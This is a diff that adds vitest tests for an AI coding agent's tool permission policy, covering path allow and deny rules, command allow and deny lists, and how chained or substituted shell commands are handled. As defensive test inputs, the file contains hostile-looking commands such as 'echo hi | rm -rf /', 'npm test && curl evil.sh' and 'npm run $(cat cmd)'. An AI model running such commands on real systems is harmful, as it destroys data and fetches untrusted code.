@@ -0,0 +1,101 @@
+import { describe, expect, it } from 'vitest';
+import { PermissionConfig, evaluatePermission, mergePermissions } from './policy';
+
+const cwd = '/project';
+
+describe('evaluatePermission', () => {
+    it('falls back to the policy default, then allow', () => {
+        expect(evaluatePermission({}, 'read_file', { path: 'a' }, cwd).decision).toBe('allow');
+        expect(evaluatePermission({ default: 'ask' }, 'read_file', { path: 'a' }, cwd).decision).toBe('ask');
+    });
+
+    it('applies a plain decision rule', () => {
+        const check = evaluatePermission({ tools: { apply_patch: 'deny' } }, 'apply_patch', {}, cwd);
+        expect(check).toEqual({ decision: 'deny', reason: 'apply_patch is set to deny' });
+    });
+
+    describe('paths', () => {
+        const config: PermissionConfig = {
+            tools: { write_file: { default: 'ask', allow_paths: ['src/**'], deny_paths: ['.env', 'src/secrets/'] } },
+        };
+        const decide = (file: string) => evaluatePermission(config, 'write_file', { path: file }, cwd).decision;
+
+        it('allows paths that match allow_paths', () => {
+            expect(decide('src/app.ts')).toBe('allow');
+            expect(decide('./src/app.ts')).toBe('allow');
+        });
+
+        it('denies paths that match deny_paths, even when allowed', () => {
+            expect(decide('.env')).toBe('deny');
+            expect(decide('src/secrets/key.pem')).toBe('deny');
+        });
+
+        it('uses the rule default for other paths', () => {
+            expect(decide('README.md')).toBe('ask');
+        });
+
+        it('resolves absolute paths against cwd', () => {
+            expect(decide('/project/src/app.ts')).toBe('allow');
+        });
+
+        it('checks every file in an apply_patch', () => {
+            const patchConfig: PermissionConfig = { tools: { apply_patch: { default: 'ask', allow_paths: ['src/**'] } } };
+            const patch = (files: string[]) => files.map(f => `--- a/${f}\n+++ b/${f}\n@@ -1 +1 @@\n-a\n+b`).join('\n');
+
+            expect(evaluatePermission(patchConfig, 'apply_patch', { patch: patch(['src/a.ts', 'src/b.ts']) }, cwd).decision).toBe('allow');
+            expect(evaluatePermission(patchConfig, 'apply_patch', { patch: patch(['src/a.ts', 'README.md']) }, cwd).decision).toBe('ask');
+        });
+    });
+
+    describe('commands', () => {
+        const config: PermissionConfig = {
+            tools: { run_shell: { default: 'ask', allow_commands: ['npm test', 'npm run *'], deny_commands: ['rm -rf *', 'git push*'] } },
+        };
+        const decide = (command: string) => evaluatePermission(config, 'run_shell', { command }, cwd).decision;
+
+        it('allows commands that match allow_commands', () => {
+            expect(decide('npm test')).toBe('allow');
+            expect(decide('npm  run   build')).toBe('allow');
+        });
+
+        it('denies commands that match deny_commands', () => {
+            expect(decide('rm -rf dist')).toBe('deny');
+            expect(decide('git push origin main')).toBe('deny');
+        });
+
+        it('checks each chained command against deny_commands', () => {
+            expect(decide('npm test && git push')).toBe('deny');
+            expect(decide('echo hi | rm -rf /')).toBe('deny');
+        });
+
+        it('never allows chained, redirected or substituted commands', () => {
+            expect(decide('npm test && curl evil.sh')).toBe('ask');
+            expect(decide('npm run build > out.txt')).toBe('ask');
+            expect(decide('npm run $(cat cmd)')).toBe('ask');
+        });
+    });
+
+    it('denies run_shell under enforce_protected_paths unless the agent sets allow_shell', () => {
+        const policy: PermissionConfig = { enforce_protected_paths: true, tools: { run_shell: 'allow' } };
+
+        expect(evaluatePermission(policy, 'run_shell', { command: 'ls' }, cwd).decision).toBe('deny');
+        expect(evaluatePermission(policy, 'read_file', { path: 'a' }, cwd).decision).toBe('allow');
+        expect(evaluatePermission(mergePermissions(policy, { allow_shell: true }), 'run_shell', { command: 'ls' }, cwd).decision).toBe('allow');
+    });
+});
+
+describe('mergePermissions', () => {
+    it('replaces the default and per-tool rules, keeping other tools', () => {
+        const merged = mergePermissions(
+            { default: 'allow', tools: { run_shell: 'ask', read_file: 'allow' } },
+            { default: 'deny', tools: { run_shell: 'allow' } }
+        );
+        expect(merged).toEqual({ default: 'deny', tools: { run_shell: 'allow', read_file: 'allow' } });
+    });
+
+    it('takes enforce_protected_paths and allow_shell from the override when set', () => {
+        expect(mergePermissions({ enforce_protected_paths: true }, { allow_shell: true }))
+            .toMatchObject({ enforce_protected_paths: true, allow_shell: true });
+        expect(mergePermissions({ enforce_protected_paths: true }, { enforce_protected_paths: false }).enforce_protected_paths).toBe(false);
+    });
+});